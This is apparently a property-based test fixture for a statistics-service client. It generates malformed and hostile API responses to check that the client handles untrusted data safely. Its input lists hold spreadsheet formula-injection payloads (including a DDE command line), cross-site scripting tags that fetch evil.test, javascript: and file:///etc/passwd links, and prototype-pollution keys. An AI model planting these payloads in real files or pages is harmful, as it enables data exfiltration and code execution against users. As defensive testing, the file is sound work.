import { fc } from "../../support/properties.js";

/** What a service might write where a title, a unit, a place, a category is expected. */
const texts = [
  ..."=+-@＝＋－＠".split("").map((sign) => `${sign}WEBSERVICE("https://evil.test/"&A1)`),
  '\n=HYPERLINK("https://evil.test","open")',
  "\uFEFF=1+1",
  "\t\r=cmd|'/C calc'!A0",
  "'=1",
  "<img src=x onerror=fetch('https://evil.test')>",
  "</svg><script>fetch('https://evil.test')</script>",
  "javascript:alert(1)",
  "https://user:secret@evil.test/",
  "\\\\evil.test\\share\\x",
  "History",
  "[Book]Sheet'!A1:*?/\\",
  "__proto__",
  "constructor",
  "\u202Egnp.exe",
  "\uD800",
  "\u0000\u0001\u001F",
  "x".repeat(40_000),
  "<br ".repeat(5_000),
  "{{{{[[[[((((",
  "%s%n%x ${1} {0}",
  "1.234,56",
  "1e400",
  "-0",
  "2017-13-45T99:99:99Z",
  "",
];
const links = [
  "javascript:alert(1)",
  "file:///etc/passwd",
  "http://evil.test/",
  "data:text/html,<script>1</script>",
  "//evil.test/x",
  "https://evil.test/=1",
  "https://example.com/1?key=a&signature=b",
];
const odd = fc.oneof(
  fc.constantFrom(...texts),
  fc.constantFrom(...links),
  fc.constantFrom(0, -0, 1e308, -1e308, 5e-324, 2 ** 53, true, null, [], {}, "__proto__"),
  fc.jsonValue({ maxDepth: 3 }),
);
// fast-check's own "binary" keeps a table of every character there is: 100 MB.
const character = fc.nat(0xffff).map((code) => String.fromCharCode(code));
const text = fc.oneof(fc.constantFrom(...texts), fc.string({ maxLength: 30, unit: character }));
const link = fc.oneof(fc.constantFrom(...links), fc.constant("https://example.com/item/1"));
/** Mostly what it should be: only what is nearly right gets far. */
const mostly = <T>(right: fc.Arbitrary<T>) =>
  fc.oneof({ arbitrary: right, weight: 12 }, { arbitrary: odd, weight: 1 });

const day = fc.constantFrom("2026-05-31T00:00:00Z", "2026-01-01", "99999-01-01", "1600-02-30");
const named = fc.record({ title: mostly(text), subtitle: mostly(text), is_active: fc.boolean() });
const figure = fc.oneof(
  fc.double({ noNaN: true }),
  fc.constantFrom(null, "1,234.5", "12 %", "=1", "n/a"),
);
const category = fc.oneof(
  fc.integer({ min: 1600, max: 2400 }).map(String),
  fc.constantFrom("2026-03", "2026-Q1", "2026-03-31", "2027*", "Q1 2026"),
  text,
);
const points = fc.array(fc.record({ name: mostly(category), data: mostly(figure) }), {
  maxLength: 8,
});
const chart = fc.record({
  graphType: mostly(fc.constantFrom("bar", "line", "pie", "table", "map-world", "stacked")),
  horizontal: mostly(fc.boolean()),
  unit: mostly(text),
  data: mostly(fc.dictionary(text, mostly(points), { maxKeys: 4, noNullPrototype: true })),
});
const pictures = fc.array(fc.record({ width: mostly(fc.nat(3000)), src: mostly(link) }), {
  maxLength: 3,
});
const shared = {
  title: mostly(text),
  subject: mostly(text),
  description: mostly(text),
  link: mostly(link),
  date: mostly(day),
  released_at: mostly(day),
  updated_at: mostly(day),
  platform: mostly(fc.constantFrom("en", "de", "fr", "es")),
  is_premium: mostly(fc.boolean()),
  sources: mostly(fc.array(named, { maxLength: 3 })),
  publishers: mostly(fc.array(named, { maxLength: 2 })),
  teaser_image_urls: mostly(pictures),
  image_url: mostly(link),
  covered_timeframe: mostly(fc.record({ start: category, end: category })),
  frequency: mostly(fc.constantFrom("annual", "monthly")),
  latest: mostly(fc.record({ value: figure, period: category, unit: text })),
  points: mostly(fc.array(fc.oneof(fc.double({ noNaN: true }), fc.constant(null)))),
};

export const statisticId = 7;
export const indicatorId = "5f1f0c5e-7b1a-5a0e-9a75-1d8c2a7b9e01";

const geo = fc.record({
  geo: mostly(fc.constantFrom("WLD", "DEU")),
  categories: mostly(fc.array(category, { maxLength: 8 })),
  series: mostly(fc.array(figure, { maxLength: 8 })),
});
const listOf = (item: fc.Arbitrary<unknown>) =>
  mostly(
    fc.record({
      items: mostly(fc.array(mostly(item), { minLength: 1, maxLength: 3 })),
      total_count: mostly(fc.nat(40)),
    }),
  );
const statistic = fc.record({
  identifier: mostly(fc.constant(statisticId)),
  ...shared,
  chart: mostly(chart),
});
const indicatorItem = fc.record({
  ...shared,
  identifier: mostly(fc.constant(indicatorId)),
  covered_geos: mostly(fc.constant({ WLD: "=1+1", DEU: "<b>Germany</b>" })),
  market_type: mostly(text),
});
const source = fc.record({ title: mostly(text), link: mostly(link), identifier: mostly(text) });
const research = fc.record({
  researchToken: mostly(fc.constant("token-1")),
  state: mostly(fc.record({ status: mostly(fc.constantFrom("done", "failed")) })),
  response: mostly(
    fc.record({
      answer: mostly(text),
      keyFacts: mostly(fc.array(mostly(text), { maxLength: 4 })),
      sources: mostly(fc.array(mostly(source), { maxLength: 4 })),
    }),
  ),
  errorMessage: mostly(text),
});

/** What a hostile service answers to everything, by the path's end. */
const hostileAnswers = fc.record({
  statistic: mostly(statistic),
  indicator: mostly(
    fc.record({
      identifier: mostly(fc.constant(indicatorId)),
      title: mostly(text),
      description: mostly(text),
      chart: mostly(
        fc.record({
          name: mostly(text),
          graphType: mostly(fc.constantFrom("bar", "line")),
          unit: mostly(text),
          data: mostly(fc.array(geo, { maxLength: 3 })),
        }),
      ),
      market_type: mostly(text),
    }),
  ),
  items: listOf(statistic),
  indicatorItems: listOf(indicatorItem),
  reports: mostly(fc.record({ pdf: mostly(link), ppt: mostly(link), xls: mostly(link) })),
  research: mostly(research),
});
export type HostileAnswers =
  typeof hostileAnswers extends fc.Arbitrary<infer Answers> ? Answers : never;

/** The answer to one request; a foreign host is asked for nothing. */
export function answerOf(answers: HostileAnswers, address: string): unknown {
  const { pathname } = new URL(address);
  if (pathname.includes("research")) return answers.research;
  if (pathname.endsWith("/data/statistic")) return answers.statistic;
  if (pathname.endsWith("/market-insights/indicator")) return answers.indicator;
  if (pathname.includes("/indicators")) return answers.indicatorItems;
  if (pathname.endsWith("/reports")) return answers.reports;
  return answers.items;
}

/** As many as `HOSTILE_ANSWERS` says, the same ones in every run. */
export const drawAnswers = (usual: number): HostileAnswers[] =>
  fc.sample(hostileAnswers, {
    numRuns: Number(process.env["HOSTILE_ANSWERS"] ?? usual),
    seed: 20_261_122,
  });
